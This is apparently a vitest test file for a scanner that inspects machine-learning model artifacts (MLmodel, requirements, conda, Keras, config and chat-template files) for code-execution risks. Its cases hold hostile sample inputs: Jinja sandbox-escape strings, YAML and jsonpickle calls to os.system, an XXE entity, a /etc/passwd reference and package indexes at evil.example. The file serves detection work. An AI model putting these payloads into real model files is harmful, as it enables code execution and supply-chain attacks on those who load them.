import { describe, expect, it } from "vitest";
import { bytesSource, scanFile } from "./index";
import { zipOf } from "./testing-zip";

const scan = (content: string | Buffer, path: string) =>
  scanFile(bytesSource(Buffer.from(content)), { path });

const MLMODEL = (loader: string, more = "") =>
  `artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: ${loader}\n${more}  sklearn:\n    code: null\n    pickled_model: model.pkl\nmlflow_version: 3.3.2\n`;
const KERAS = (layer: string) =>
  zipOf([
    { name: "config.json", data: Buffer.from(`{"class_name":"Sequential","config":{"layers":[${layer}]}}`) },
  ]);

describe("code that needs no pickle", () => {
  it.each([
    ["MLmodel", MLMODEL("mylib.loader"), 'MLflow would import "mylib.loader"'],
    ["MLmodel", MLMODEL("mlflow.pyfunc.model"), "a Python class that comes with the model"],
    ["MLmodel", MLMODEL("mlflow.sklearn", "    code: code\n"), "adds code to Python's path"],
    ["MLmodel", MLMODEL("mlflow.sklearn", "    loader_module: mylib\n"), "cannot be read for sure"],
    ["MLmodel", `${MLMODEL("mlflow.pyfunc.loaders.code_model")}model_code_path: a.py\n`, "model from code"],
    [
      "MLmodel",
      `x: &x\n  code: code\n${MLMODEL("mlflow.sklearn", "    <<: *x\n")}`,
      "cannot be read for sure",
    ],
    ...["\r", "\u0085", "\u2028", "\u2029"].map((end): [string, string, string] => [
      "MLmodel",
      MLMODEL(`mlflow.sklearn # note${end}    code: code`),
      "cannot be read for sure",
    ]),
    ["MLmodel", MLMODEL("*nowhere"), "cannot be read for sure"],
    [
      "MLmodel",
      `a: &a [1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c]\n${MLMODEL("mlflow.sklearn")}`,
      "cannot be read for sure",
    ],
    ["MLmodel", MLMODEL("{toString: 1, valueOf: 1}"), "MLflow would import"],
    ["MLmodel", MLMODEL("mlflow.xgboost", "    model_class: antigravity.x\n"), "and call it"],
    [
      "MLmodel",
      MLMODEL("mlflow.sklearn").replace("conda.yaml", "other.txt"),
      '"other.txt", which is not checked',
    ],
    ["code/model.py", "import os\n", "Python code"],
    ...["\r", "\f", "\u0085", "\u2028"].map((end): [string, string, string] => [
      "requirements.txt",
      `numpy # c${end}--index-url https://evil.example\n`,
      "another index",
    ]),
    ["requirements.txt", "# comment \\\n--index-url https://evil.example\n", "another index"],
    [
      "requirements.txt",
      "# coding: unicode_escape\n# c \\x0a--index-url https://evil.example\n",
      "states a coding",
    ],
    ["requirements.txt", `a${" ".repeat(100_000)}!\n`, "too long"],
    ["requirements.txt", `a${" ".repeat(4_000)}!\n`, "not a plain package"],
    ["conda.yaml", "x: &x\n  channels: [https://evil]\n<<: *x\n", "cannot be read for sure"],
    ["conda.yaml", 'dependencies: [{pip: ["numpy # c\\v--index-url https://evil"]}]\n', "another index"],
    ["conda.yaml", "dependencies: [a] # c\rchannels: [https://evil]\n", "cannot be read for sure"],
    ["config.json", '{"x": NaN, "auto\\u005fmap": {"AutoModel":"modeling.Net"}}', "modeling.Net"],
    ["config.json", '\uFEFF{"auto\\u005fmap": {"AutoModel":"modeling.Net"}}', "modeling.Net"],
    ["config.json", '{"x": 1,, "auto\\u005fmap": {}}', "not valid JSON"],
    ["config.json", '{"auto_map": {"a": {"toString": 1, "valueOf": 1}}}', "transformers run code"],
    ["install.sh", "#!/bin/sh\necho\n", "It is code"],
    ["run", "#!/usr/bin/env python\n", "program for"],
    ["requirements.txt", "--index-url https://evil.example/simple\nnumpy\n", "another index"],
    ["requirements.txt", "--extra-index-url=https://evil.example\n", "another index"],
    ["requirements.txt", "-f https://evil.example\n", "another index"],
    ["requirements.txt", "numpy @ https://evil.example/n.whl\n", "from an address"],
    ["requirements.txt", "git+https://evil.example/x.git\n", "from a repository"],
    ["requirements.txt", "-e .\n", "from a path"],
    ["requirements.txt", "./wheels/x.whl\n", "from a path"],
    ["requirements.txt", "-r other.txt\n", "another file"],
    ["requirements.txt", "numpy \\\n --global-option=x\n", "not a plain package"],
    ["conda.yaml", "channels:\n- https://evil.example\ndependencies:\n- python=3.11\n", "another channel"],
    ["conda.yaml", "channels: [defaults]\ndependencies:\n- evil::numpy\n", "from elsewhere"],
    ["conda.yaml", "dependencies:\n- pip\n- pip:\n  - --index-url http://evil\n  - numpy\n", "another index"],
    [
      "python_env.yaml",
      "python: 3.11\ndependencies:\n- -r requirements.txt\n- git+http://evil\n",
      "repository",
    ],
    ["data/pickle_module_info.txt", "evil.pickle", "evil.pickle"],
    ["data/keras_module.txt", "evil.keras", "evil.keras"],
    ["config.json", '{"auto_map":{"AutoModel":"modeling.Net"}}', "modeling.Net"],
    ["config.json", '{"a":{"trust_remote_code":true}}', "trust_remote_code"],
    ["model_index.json", '{"custom_pipeline":"x"}', "names code to load"],
    ["config.json", '{"auto_map": NaN, }', "not valid JSON"],
    ["model.keras", KERAS('{"class_name":"Lambda","module":"keras.layers","config":{}}'), "Lambda layer"],
    [
      "model.keras",
      KERAS('{"class_name":"Wrapper","config":{"layer":{"class_name":"Lambda"}}}'),
      "Lambda layer",
    ],
    ["model.keras", KERAS('{"class_name":"Net","module":"mylib"}'), "from another library"],
    ["model.so", Buffer.from("7f454c46020101", "hex"), "machine code for Linux"],
    ["model.dll", Buffer.from("MZ\x90\0", "latin1"), "machine code for Windows"],
    ["modules.json", '[{"idx":0,"type":"evil.Net"}]', "evil.Net"],
    ["router_config.json", '{"types":{"a":"evil.Net"}}', "evil.Net"],
    ["1_Dense/config.json", '{"activation_function":"evil.f"}', "evil.f"],
    ["model_index.json", '{"unet":["evil","Net"]}', "diffusers would import"],
    ["model_index.json", '{"_class_name":["pipeline","Net"]}', "diffusers would import"],
    ["adapter_config.json", '{"auto_mapping":{"parent_library":"evil","base_model_class":"X"}}', "PEFT"],
    ...['"yes"', "1", '"true"', '"false"', "[0]"].map((on): [string, string, string] => [
      "config.json",
      `{"trust_remote_code":${on}}`,
      "trust_remote_code",
    ]),
    ["config.yaml", "trust_remote_code: yes\n", "trust_remote_code"],
    [
      "model.keras",
      KERAS('{"class_name":"function","module":"keras.utils","config":"get_file"}'),
      "get_file",
    ],
    [
      "model.keras",
      KERAS('{"class_name":"StringLookup","module":"keras.layers","config":{"vocabulary":"/etc/passwd"}}'),
      "/etc/passwd",
    ],
    ["model.rds", "A\n3\n263169\n197888\n5\nUTF-8\n", "object of R"],
    ["model.txt", "A\n2\n263169\n", "object of R"],
    ["m.pmml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]><PMML/>', "DTD"],
    ["schema.json", '{"__class__":"Net","__module__":"evil","__loader__":"ObjectNode"}', "evil.Net"],
    ...[
      "{{ x['__cla' ~ 'ss__'] }}",
      "{{ x['_' '_class_' '_'] }}",
      "{{ x['%c%cclass' % (95, 95)] }}",
      "{{ x[a ~ b] }}",
      "{{ x[a[0] ~ b] }}",
      "{{ y|map(f, 'x')|list }}",
      "{{ y|map('at' ~ 'tr', 'x') }}",
      "{{ y|map(attribute=a ~ b) }}",
      "{{ y|selectattr(name) }}",
      "{% set x = a ~ b %}{{ y[x] }}",
      "{% set x = a ~ b %}{{ y['k'][ x ] }}",
      "{% set x %}{{ a }}{{ b }}{% endset %}{{ (y)[x] }}",
      "{% for x in ['a', 'b']|map('upper') %}{{ y[x] }}{% endfor %}",
      "{{ y[x.k] }}",
      "{{ y[x[0]] }}",
      "{{ y[0 if a else b] }}",
      "{{ ''[x] }}",
      "{{ [a][x] }}",
      "{{ {}[x] }}",
      "{{ y.k\n[x] }}",
    ].map((body): [string, string, string] => ["chat_template.jinja", body, "puts a name together"]),
    ["x.json", '{"py/reduce":[{"py/function":"os.system"}]}', "jsonpickle"],
  ])("%s: %j goes to people", async (path, content, words) => {
    const { verdict, findings } = await scan(content, path);
    expect(verdict, JSON.stringify(findings)).toBe("indeterminate");
    expect(findings.map((one) => one.message).join(" ")).toContain(words);
  });

  it.each([
    [
      "model.keras",
      KERAS('{"class_name":"Lambda","config":{"function":{"class_name":"__lambda__"}}}'),
      "bytecode",
    ],
    ["model.keras", KERAS('{"class_name":"system","module":"os"}'), "os.system"],
    ["model.h5", Buffer.from('\x89HDF\r\n\x1a\n\x00{"class_name":"__lambda__"', "latin1"), "bytecode"],
    ["params.yaml", "a: !!python/object/apply:os.system ['id']\n", "YAML tag"],
    [
      "tokenizer_config.json",
      JSON.stringify({ chat_template: "{{ ''.__class__.__mro__ }}" }),
      "out of its sandbox",
    ],
    ["chat_template.jinja", "{% set x = cycler.__init__ %}", "out of its sandbox"],
    ["chat_template.jinja", "{{ y|map('attr', 'x')|list }}", "out of its sandbox"],
    ["chat_template.jinja", "{{ x|attr('a') }}", "out of its sandbox"],
    ["chat_template.jinja", "{{ '}}' ~ x.__class__ }}", "out of its sandbox"],
    ["chat_template.jinja", "{% set y = '%}' ~ x.__class__ %}", "out of its sandbox"],
    ["chat_template.jinja", "{{ {'a': {'b': 1}}.__class__ }}", "out of its sandbox"],
    ["chat_template.jinja", "{{ x['\\137\\137class\\137\\137'] }}", "out of its sandbox"],
  ])("%s: %j fails", async (path, content, words) => {
    const { verdict, findings } = await scan(content, path);
    expect(verdict, JSON.stringify(findings)).toBe("fail");
    expect(findings.map((one) => one.message).join(" ")).toContain(words);
  });

  it.each([
    ["MLmodel", MLMODEL("mlflow.sklearn")],
    ["MLmodel", MLMODEL("mlflow.onnx", "    data: model.onnx\n")],
    [
      "requirements.txt",
      "mlflow==3.3.2\nnumpy==2.4.6 # why\nscikit-learn>=1.5,<2; python_version >= '3.10'\nx[a,b]~=1.0\ncloudpickle\n",
    ],
    ["requirements.txt", "numpy==2.4.6 \\\n    --hash=sha256:00 \\\n    --hash=sha256:11\n"],
    [
      "conda.yaml",
      "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=23.2.1\n- pip:\n  - mlflow==3.3.2\nname: mlflow-env\n",
    ],
    [
      "python_env.yaml",
      "python: 3.11.7\nbuild_dependencies:\n- pip==23.2.1\n- setuptools\n- wheel\ndependencies:\n- -r requirements.txt\n",
    ],
    ["data/pickle_module_info.txt", "mlflow.pytorch.pickle_module"],
    ["chat_template.jinja", "{{ {'a': {'b': 1}}['a'] }} About __init__ and the request. {{ x }}"],
    [
      "chat_template.jinja",
      "{{ messages|selectattr('role', 'equalto', 'user')|map( attribute='content')|join('\\n') }}{{ m['tool_calls'][loop.index0 - 1] }}{{ messages[1:] }}{{ messages[-1]['content'] }}{% if x in ['a', y] and m.role not in [z] %}{% endif %}{% set a = [b, c] %}{{ messages[ : loop.index ][0] }}{{ [x] }}{{ '<|im_start|>' + m.role }}",
    ],
    ["modules.json", '[{"idx":0,"type":"sentence_transformers.models.Transformer"}]'],
    ["model_index.json", '{"_class_name":"X","unet":["diffusers","UNet2DConditionModel"],"f":[null,null]}'],
    ["adapter_config.json", '{"auto_mapping":null,"trust_remote_code":null}'],
    [
      "schema.json",
      '{"__class__":"LogisticRegression","__module__":"sklearn.linear_model._logistic","__loader__":"ObjectNode"}',
    ],
    ["m.pmml", '<?xml version="1.0"?><PMML version="4.4"/>'],
    ["config.json", '{"architectures":["BertModel"],"trust_remote_code":false}'],
    ["model.keras", KERAS('{"class_name":"Dense","module":"keras.layers","registered_name":null}')],
    [
      "tokenizer_config.json",
      JSON.stringify({ chat_template: "{% for m in messages %}{{ m['content'] }}{% endfor %}" }),
    ],
  ])("an honest %s passes", async (path, content) => {
    expect(await scan(content, path)).toMatchObject({ verdict: "pass", findings: [] });
  });

  it("is not seen in a lock that names a hash for every file of a package", async () => {
    const hash = `--hash=sha256:${"0a".repeat(32)}`;
    const lock = `numpy==2.4.6 ; python_version >= "3.11" \\\n${Array(200).fill(`    ${hash}`).join(" \\\n")}\n`;
    expect(await scan(lock, "requirements.txt")).toMatchObject({ verdict: "pass" });
    const foreign = lock.replace("numpy==2.4.6", "--index-url https://evil.example numpy");
    expect(await scan(foreign, "requirements.txt")).toMatchObject({ verdict: "indeterminate" });
    const glued = lock.replaceAll("    --hash", "x--hash");
    expect(await scan(glued, "requirements.txt")).toMatchObject({ verdict: "indeterminate" });
  });
});
